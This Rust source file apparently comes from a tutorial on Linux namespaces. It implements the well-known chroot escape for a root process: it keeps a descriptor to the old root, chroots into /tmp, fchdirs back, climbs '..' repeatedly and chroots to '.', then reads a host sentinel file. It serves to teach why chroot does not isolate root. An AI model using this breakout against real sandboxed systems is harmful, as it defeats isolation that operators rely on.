//! The way out of a chroot, as every root inside has it.

use std::fs;
use std::path::Path;

use anyhow::{Context, Result};
use ch01_namespaces::say;
use nix::fcntl::{OFlag, open};
use nix::sys::stat::Mode;
use nix::unistd::{chdir, chroot, fchdir};

/// More directories than there are on the way up.
const HIGH_ENOUGH: usize = 64;

// ANCHOR: escape
/// Tries to read a file of the host's, whose path only the host's / leads to.
///
/// `..` stops at the process's root, and nowhere else in a mount. So: keep the directory open that
/// is the root now, make a directory below it the root, and go back through the descriptor. From
/// there the root is not on the way up any more.
pub fn escape(sentinel: &Path) -> Result<()> {
    let top = open("/", OFlag::O_DIRECTORY | OFlag::O_CLOEXEC, Mode::empty()).context("open /")?;
    chroot("/tmp").context("chroot /tmp")?;
    fchdir(&top).context("fchdir")?;
    for _ in 0..HIGH_ENOUGH {
        chdir("..").context("chdir ..")?;
    }
    chroot(".").context("chroot .")?;
    say!("{}", fs::read_to_string(sentinel).context("still inside")?.trim());
    Ok(())
}
// ANCHOR_END: escape
